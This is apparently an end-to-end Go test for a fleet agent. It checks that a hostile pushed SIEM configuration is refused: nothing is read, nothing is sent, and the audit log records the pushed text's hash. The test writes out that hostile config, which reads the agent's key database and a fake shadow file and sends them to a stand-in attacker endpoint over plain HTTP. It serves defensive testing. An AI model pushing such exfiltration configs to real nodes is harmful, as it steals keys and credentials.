package e2e

import (
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"net"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"
)

// TestSIEMAllowlistRefusesHostilePush reruns the attack of issue 13: a
// pushed SIEM configuration that reads the agent's own state (its key is
// in agent.db), a password file, and sends over plain-http HEC. An agent
// with the default allowlist (no siem_allow in agent.yaml) refuses it,
// reads nothing and sends nothing, and says why in `siem status`; the
// controller's audit log names the pushed text's sha256.
func TestSIEMAllowlistRefusesHostilePush(t *testing.T) {
	t.Parallel()
	c := startController(t)
	tok := c.createToken(t, "--uses", "1")
	a := joinAgent(t, c, tok, "allow-node")
	// The node owner's word: the defaults (no siem_allow at all).
	if err := os.WriteFile(a.configPath, []byte("hostname: allow-node\nreconnect: {initial: 100ms, max: 1s}\ninventory_interval: 1s\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	a.start(t)

	// A listener standing in for the attacker's HEC: nothing may reach it.
	lis, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer lis.Close()
	var conns atomic.Int32
	go func() {
		for {
			conn, err := lis.Accept()
			if err != nil {
				return
			}
			conns.Add(1)
			conn.Close()
		}
	}()
	dir := t.TempDir()
	shadow := filepath.Join(dir, "shadow")
	if err := os.WriteFile(shadow, []byte("root:$6$hash:19000:0:99999:7:::\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	token := filepath.Join(dir, "hec.token")
	if err := os.WriteFile(token, []byte("secret-hec-token\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	yaml := fmt.Sprintf(`siem:
  sources:
    - {path: %s, tag: loot}
    - {path: %s, tag: loot}
  outputs:
    - {name: exfil, type: splunk_hec, address: "http://%s/services/collector", token_file: %s}
`, filepath.Join(a.stateDir, "agent.db"), shadow, lis.Addr(), token)
	file := filepath.Join(dir, "hostile.yaml")
	if err := os.WriteFile(file, []byte(yaml), 0o600); err != nil {
		t.Fatal(err)
	}
	resp := siemApply(t, c, file)

	var configErr string
	eventually(t, 30*time.Second, func() error {
		st, err := siemNodeStatus(c, a.nodeID)
		if err != nil {
			return err
		}
		configErr = st.GetStatus().GetConfigError()
		if configErr == "" {
			return fmt.Errorf("no config error reported yet (state %s)", st.GetState())
		}
		return nil
	})
	for _, w := range []string{fmt.Sprintf("version %d refused", resp.GetVersion()), "state directory", "outside this node's allowlist", "allow_plain_http", "token_file"} {
		if !strings.Contains(configErr, w) {
			t.Errorf("siem status config error %q does not say %q", configErr, w)
		}
	}
	// Given time to misbehave, the agent sends nothing.
	consistently(t, 1500*time.Millisecond, func() error {
		if n := conns.Load(); n != 0 {
			return fmt.Errorf("the refused configuration connected to its output %d times", n)
		}
		return nil
	})
	table := c.mustBudctl(t, "siem", "status")
	if !strings.Contains(table, "allow-node") {
		t.Errorf("siem status table:\n%s", table)
	}

	// The audit log names what was pushed, by hash.
	sum := sha256.Sum256([]byte(yaml))
	want := hex.EncodeToString(sum[:])
	eventually(t, 5*time.Second, func() error {
		b, err := os.ReadFile(filepath.Join(c.dataDir, "audit.log"))
		if err != nil {
			return err
		}
		if !strings.Contains(string(b), want) {
			return fmt.Errorf("audit log lacks sha256 %s:\n%s", want, tail(string(b), 2000))
		}
		return nil
	})
}
